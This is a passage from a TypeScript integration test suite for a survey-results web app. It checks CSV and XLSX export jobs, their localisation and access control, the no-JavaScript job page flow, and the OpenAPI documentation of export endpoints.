    expect(csv.disposition).to.equal(`attachment; filename="pikir-${id}-university-responses.csv"`);
    expect(csv.body.toString('utf8')).to.equal(expectedCsv);
    expect(csv.body.length).to.equal(done.file!.size);
    // Another account (an admin too) cannot see the job nor fetch its file.
    const other = sessionCookie(srv.config, await createUser({ role: 'admin' }));
    expect((await call(srv.url, 'GET', `/api/report-jobs/${job.id}`, { cookie: other })).status).to.equal(404);
    expect((await call(srv.url, 'GET', `/api/report-jobs/${job.id}/file`, { cookie: other })).status).to.equal(404);
    expect((await call(srv.url, 'GET', `/reports/jobs/${job.id}`, { cookie: other })).status).to.equal(404);

    // Started over the API as the exports page's script does: the XLSX, its rows those of the CSV.
    const started = await call(srv.url, 'POST', '/api/report-jobs', { cookie: admin, body: { kind: 'responses', campaign: id, format: 'xlsx', lang: 'en' } });
    expect(started.status, started.text).to.equal(202);
    const xlsxJob = started.json as Job;
    expect(xlsxJob.kind).to.equal('responses');
    await jobs.resultWithin(adminUser._id, xlsxJob.id, 60_000);
    const xlsx = await download(`${srv.url}/api/report-jobs/${xlsxJob.id}/file`, admin);
    expect(xlsx.type).to.equal(XLSX);
    const sheets = [...(await readWorkbook(xlsx.body)).values()];
    expect(sheets[0]).to.deep.equal([expected.head, ...expected.rows.map((r) => r.map((v) => (v === '' ? null : cellValue(v))))]);

    // Without JavaScript: the exports page links the job's start, which leads to the job's page and its file.
    const exportsPage = await call(srv.url, 'GET', `/results/${id}/exports?lang=kk`, { cookie: admin });
    for (const format of ['xlsx', 'csv']) expect(exportsPage.text).to.include(`href="${escapeHtml(`/results/${id}/responses/start?format=${format}&lang=kk`)}" data-job="responses" data-format="${format}"`);
    expect(exportsPage.text).not.to.include(`/api/campaigns/${id}/responses.`);
    const start = await fetch(`${srv.url}/results/${id}/responses/start?format=csv&lang=kk`, { headers: { cookie: admin }, redirect: 'manual' });
    expect(start.status).to.equal(303);
    const jobPage = start.headers.get('location')!;
    expect(jobPage).to.match(/^\/reports\/jobs\/j[0-9a-z]{20}$/);
    const ready = await waitFor('the job page to link the file', async () => {
      const page = await call(srv.url, 'GET', `${jobPage}?lang=kk`, { cookie: admin });
      return page.text.includes('/file"') ? page.text : undefined;
    }, { timeout: 60_000, interval: 200 });
    expect(ready).to.include(translate('kk', 'reports.job.title.responses'));
    const fromPage = await download(`${srv.url}${/href="(\/api\/report-jobs\/j[0-9a-z]{20}\/file)"/.exec(ready)![1]}`, admin);
    const kk = await expectedResponseRows(id, 'kk', K);
    expect(fromPage.body.toString('utf8')).to.equal(BOM + csvLine(kk.head) + kk.rows.map((r) => csvLine(r)).join(''));
  });

  it('documents every export in OpenAPI with its media type, and links them from the dashboard, the campaign page and meeting mode', async () => {
    const doc = (await (await fetch(`${srv.url}/api/openapi.json`)).json()) as { paths: Record<string, Record<string, { responses: Record<string, { content?: Record<string, unknown> }> }>> };
    const types = (path: string) => Object.keys(doc.paths[path]!.get!.responses['200']!.content!);
    expect(types('/api/campaigns/{id}/report.pdf')).to.deep.equal(['application/pdf']);
    expect(types('/api/campaigns/{id}/figures.xlsx')).to.deep.equal([XLSX]);
    expect(types('/api/campaigns/{id}/responses.xlsx')).to.deep.equal([XLSX]);
    expect(types('/api/campaigns/{id}/figures.csv')).to.deep.equal(['text/csv; charset=utf-8']);
    expect(types('/api/campaigns/{id}/responses.csv')).to.deep.equal(['text/csv; charset=utf-8']);
    expect(types('/api/programmes/{id}/evidence.zip')).to.deep.equal(['application/zip']);
    // The files made by report jobs answer 202 with the job after 20 s, documented as for the PDF.
    const accepted = (path: string) => doc.paths[path]!.get!.responses['202'];
    for (const path of ['/api/campaigns/{id}/responses.xlsx', '/api/campaigns/{id}/responses.csv']) expect(accepted(path), path).to.deep.equal(accepted('/api/campaigns/{id}/report.pdf'));
    const world = await buildSurveyWorld();
    const admin = await adminCookie();
    for (const page of [`/results/${world.campaign._id}`, `/campaigns/${world.campaign._id}`, `/results/${world.campaign._id}/present`]) {
      const res = await call(srv.url, 'GET', page, { cookie: admin });
      expect(res.status, page).to.equal(200);
      expect(res.text, page).to.match(new RegExp(`href="/results/${world.campaign._id}/exports[^"]*" data-exports-link`));
    }
    const exportsPage = await call(srv.url, 'GET', `/results/${world.campaign._id}/exports`, { cookie: admin });
    expect(exportsPage.status).to.equal(200);
    for (const link of [`/api/campaigns/${world.campaign._id}/figures.xlsx?`, `/api/campaigns/${world.campaign._id}/figures.csv?`, `/results/${world.campaign._id}/report/start?`]) expect(exportsPage.text).to.include(link);
  });
});
